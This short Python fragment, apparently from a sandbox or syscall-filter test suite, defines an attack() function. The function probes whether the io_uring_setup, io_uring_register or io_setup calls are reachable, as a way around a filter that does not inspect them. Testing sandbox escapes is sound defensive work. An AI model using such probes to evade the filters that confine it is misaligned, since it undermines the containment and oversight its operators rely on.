# goal 1: rings of calls that a filter does not see
def attack():
    return first(
        lambda: call("io_uring_setup", 8, bytes(120)),
        lambda: call("io_uring_register", -1, 18, None, 0),
        lambda: call("io_setup", 8, bytes(8)),
    )
